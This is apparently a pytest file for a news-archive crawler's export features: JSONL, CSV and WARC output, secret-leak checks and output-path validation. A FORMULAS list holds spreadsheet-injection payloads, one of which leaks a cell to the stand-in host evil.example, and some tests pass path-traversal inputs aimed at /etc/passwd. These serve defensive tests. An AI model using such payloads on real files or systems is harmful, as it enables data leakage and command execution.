"""Exports: JSONL and CSV per distinct article, WARC 1.1 per capture, safe output paths."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from warcio.archiveiterator import ArchiveIterator

from crawler.archive.export import COLUMNS, CSV_COLUMNS, check_output_path, export
from crawler.archive.store import ArchiveFilter, Store, decompress
from crawler.errors import ExportError

from .conftest import CANARY  # noqa: TID252


def _jsonl(store: Store, path: Path, where: ArchiveFilter | None = None) -> list[dict]:
    export(store, "jsonl", where or ArchiveFilter(), path)
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_jsonl_has_one_object_per_distinct_article(store: Store, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    items = {item["url"]: item for item in _jsonl(store, tmp_path / "out.jsonl")}
    assert set(items) == {archive.death_url, archive.arrest_url, archive.removed_url,
                          archive.arabic_url}
    for item in items.values():
        assert set(COLUMNS) <= set(item)
    death = items[archive.death_url]
    assert death["versions"] == 2
    assert death["title"] == "Teacher dies under torture in regime detention"
    assert "heart failure" in death["text"]
    assert death["published"] == "2025-03-10"
    assert death["first_seen"] == "2025-03-10T09:00:00+00:00"
    assert death["labels"] == ["torture_death", "enforced_disappearance", "arbitrary_arrest"]
    assert death["facts"]["governorate"] == "Homs"
    assert death["removed_at"] is None
    arrest = items[archive.arrest_url]
    assert [d["url"] for d in arrest["duplicates"]] == [
        archive.arrest_url.replace("daraa-raid", "daraa-raid-copy")]
    assert arrest["duplicates"][0]["kind"] == "exact"
    assert items[archive.removed_url]["removed_at"].startswith("2025-04-05")
    assert items[archive.arabic_url]["title"].startswith("وَفَاةُ")
    assert items[archive.arabic_url]["lang"] == "ar"


def test_filters_apply_to_exports(store: Store, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    only = _jsonl(store, tmp_path / "a.jsonl", ArchiveFilter(labels=("torture_death",),
                                                             since="2025-04-01"))
    assert [item["url"] for item in only] == [archive.arabic_url]
    assert _jsonl(store, tmp_path / "b.jsonl", ArchiveFilter(labels=("release",))) == []


def test_csv_is_utf8_with_bom_and_joins_lists(store: Store, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "out.csv"
    assert export(store, "csv", ArchiveFilter(), path) == 4
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = {row["url"]: row for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert list(next(iter(rows.values()))) == list(CSV_COLUMNS)
    assert rows[archive.death_url]["labels"] == (
        "torture_death; enforced_disappearance; arbitrary_arrest"
    )
    assert rows[archive.death_url]["versions"] == "2"
    assert rows[archive.death_url]["governorate"] == "Homs"
    assert rows[archive.arrest_url]["duplicates"].endswith("/news/daraa-raid-copy")
    assert "أَحْمَد" in rows[archive.arabic_url]["text"]


def test_warc_passes_warcio_check_and_rereads(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "archive.warc.gz"
    captures = store.query("SELECT * FROM captures ORDER BY id")
    assert export(store, "warc", ArchiveFilter(), path) == len(captures) == 7

    checker = Path(sys.executable).with_name("warcio")
    result = subprocess.run([str(checker), "check", "-v", str(path)], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "digest pass" in result.stdout

    with path.open("rb") as stream:
        records = [(r.rec_type, r.rec_headers, r.http_headers, r.content_stream().read())
                   for r in ArchiveIterator(stream)]
    assert records[0][0] == "warcinfo"
    assert records[0][1].protocol == "WARC/1.1"
    responses = [r for r in records if r[0] == "response"]
    requests = [r for r in records if r[0] == "request"]
    metadata = [r for r in records if r[0] == "metadata"]
    assert len(responses) == len(requests) == len(metadata) == len(captures)
    for capture, (_, headers, http, body), (_, request_headers, request, _), (_, _, _, about) \
            in zip(captures, responses, requests, metadata, strict=True):
        original = decompress(capture["raw"])
        assert body == original
        assert hashlib.sha256(body).hexdigest() == capture["sha256"]
        assert headers.get_header("WARC-Target-URI") == capture["final_url"]
        assert headers.get_header("WARC-Date") == capture["fetched_at"][:19] + "Z"
        assert headers.get_header("WARC-Payload-Digest").startswith("sha1:")
        assert http.get_statuscode() == str(capture["status"])
        assert http.get_header("Server") == "loopback-test"
        # the stored body is already decoded: the stale headers are kept, renamed
        assert http.get_header("Content-Encoding") is None
        assert http.get_header("X-Archive-Orig-Content-Encoding") == "gzip"
        assert http.get_header("Content-Length") == str(len(original))
        assert request_headers.get_header("WARC-Concurrent-To") == \
            headers.get_header("WARC-Record-ID")
        assert request.get_header("User-Agent") == "raqib-test"
        assert json.loads(about)["sha256"] == capture["sha256"]
    assert json.loads(metadata[0][3])["redirects"] == ["http://127.0.0.1:8765/?p=101"]
    assert [r[2].get_statuscode() for r in responses].count("404") == 1


def test_warc_keeps_a_body_that_is_still_gzip_encoded(store: Store, tmp_path: Path) -> None:
    from crawler.archive.export import _replay_headers

    body = gzip.compress(b"<html>hello</html>")
    headers = json.dumps([["Content-Encoding", "gzip"], ["Content-Length", str(len(body))],
                          ["Transfer-Encoding", "chunked"]])
    assert _replay_headers(headers, body) == [
        ("Content-Encoding", "gzip"), ("Content-Length", str(len(body))),
        ("X-Archive-Orig-Transfer-Encoding", "chunked")]


def test_no_secret_reaches_the_store_or_any_export(archive, raqib, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with Store.open(archive.path) as store:
        assert store.scalar("SELECT count(*) FROM alerts WHERE channel = 'desk'") > 0
    for fmt in ("jsonl", "csv", "warc"):
        out = tmp_path / f"export.{fmt}"
        result = raqib("export", "--format", fmt, "--out", str(out))
        assert result.exit_code == 0, result.output
        data = out.read_bytes()
        if fmt == "warc":
            data = gzip.decompress(data)
        assert CANARY.encode() not in data
        assert b"monitor:" not in data
    for path in archive.path.parent.iterdir():
        assert CANARY.encode() not in path.read_bytes()


def test_export_to_stdout_by_default(raqib, archive) -> None:  # type: ignore[no-untyped-def]
    result = raqib("export", "--format", "jsonl", "--source", "test-ar")
    assert result.exit_code == 0, result.output
    (line,) = result.output.splitlines()
    assert json.loads(line)["url"] == archive.arabic_url


def test_output_paths_are_checked(store: Store, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="does not exist"):
        check_output_path(tmp_path / "missing" / "out.jsonl", store_path=store.path)
    with pytest.raises(ExportError, match="is a folder"):
        check_output_path(tmp_path, store_path=store.path)
    with pytest.raises(ExportError, match="store itself"):
        check_output_path(store.path, store_path=store.path)
    with pytest.raises(ExportError, match="store itself"):
        check_output_path(store.path.parent / ".." / "store" / "raqib.db-wal",
                          store_path=store.path)
    base = tmp_path / "exports"
    base.mkdir()
    with pytest.raises(ExportError, match="leaves the export folder"):
        check_output_path(Path("../escape.jsonl"), store_path=store.path, base=base)
    with pytest.raises(ExportError, match="leaves the export folder"):
        check_output_path(Path("a/../../../etc/passwd"), store_path=store.path, base=base)
    with pytest.raises(ExportError, match="leaves the export folder"):
        check_output_path(Path("/etc/passwd"), store_path=store.path, base=base)
    assert check_output_path(Path("./ok.jsonl"), store_path=store.path, base=base) == \
        base.resolve() / "ok.jsonl"


def test_cli_refuses_bad_paths_and_leaves_no_partial_file(raqib, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    before = archive.path.read_bytes()
    result = raqib("export", "--format", "jsonl", "--out", str(archive.path))
    assert result.exit_code == 1
    assert "store itself" in result.output
    assert archive.path.read_bytes() == before
    result = raqib("export", "--format", "csv", "--out", str(tmp_path / "nope" / "x.csv"))
    assert result.exit_code == 1
    assert "does not exist" in result.output
    result = raqib("export", "--format", "csv", "--out", str(tmp_path / "x.csv"))
    assert result.exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".x.csv")) == []


def test_warc_export_names_a_damaged_capture(archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    conn = sqlite3.connect(archive.path, isolation_level=None)
    conn.execute("DROP TRIGGER captures_no_update")  # damage it around raqib, as a disk would
    conn.execute("UPDATE captures SET raw = ? WHERE id = 2", [b"not a compressed page"])
    conn.close()
    with Store.open(archive.path) as store, pytest.raises(ExportError) as info:
        export(store, "warc", ArchiveFilter(), tmp_path / "archive.warc.gz")
    assert "capture 2 (" in str(info.value)
    assert "raqib verify" in str(info.value)


FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A1",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_csv_cells_never_start_a_formula(store: Store, archive, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ids = [row["id"] for row in store.query("SELECT id FROM articles ORDER BY id")]
    with store.transaction():
        for article_id, title in zip(ids, FORMULAS, strict=False):
            store.db.execute("UPDATE articles SET title = ? WHERE id = ?", [title, article_id])
        store.db.execute("UPDATE articles SET governorate = '=1+1', text = '-note', "
                         "facts = json_set(facts, '$.governorate', '=1+1') WHERE id = ?",
                         [ids[0]])
    path = tmp_path / "out.csv"
    export(store, "csv", ArchiveFilter(), path)
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"]
    titles = {row["title"] for row in rows}
    assert {"'" + f for f in FORMULAS[: len(ids)]} <= titles
    assert "'=1+1" in {row["governorate"] for row in rows}
    assert "'-note" in {row["text"] for row in rows}


def test_export_never_overwrites_the_config_or_the_lock_file(raqib, archive, write_config) -> None:  # type: ignore[no-untyped-def]
    from crawler.lock import lock_path

    lock = lock_path(archive.path)
    lock.write_text("4242\n", encoding="utf-8")
    config_before = write_config.read_bytes()
    for target, word in ((write_config, "configuration"), (lock, "lock")):
        result = raqib("export", "--format", "jsonl", "--out", str(target))
        assert result.exit_code == 1, result.output
        assert word in result.output
    assert write_config.read_bytes() == config_before
    assert lock.read_text(encoding="utf-8") == "4242\n"


def _cli(config: Path, *args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", "from crawler.cli import main; main()",
                           "--config", str(config), *args], text=True, timeout=120,
                          cwd=Path(__file__).resolve().parents[2], **kwargs)


def test_export_to_a_closed_pipe_is_one_line(write_config: Path) -> None:
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        result = _cli(write_config, "export", "--format", "jsonl", stdout=write_end,
                      stderr=subprocess.PIPE)
    finally:
        os.close(write_end)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "Exception ignored" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert "closed" in lines[0]


@pytest.mark.skipif(shutil.which("setpriv") is None or os.geteuid() != 0,
                    reason="needs root and setpriv to run raqib without write access")
def test_export_into_an_unwritable_folder_is_one_line(write_config: Path, tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    os.chown(folder, 65534, 65534)
    folder.chmod(0o755)
    caps = "-dac_override,-dac_read_search,-fowner,-chown"
    result = subprocess.run(
        [str(shutil.which("setpriv")), "--bounding-set", caps, "--inh-caps", caps,
         sys.executable, "-c", "from crawler.cli import main; main()", "--config",
         str(write_config), "export", "--format", "csv", "--out", str(folder / "x.csv")],
        capture_output=True, text=True, timeout=120, cwd=Path(__file__).resolve().parents[2])
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert "cannot write" in lines[0]
    assert list(folder.iterdir()) == []
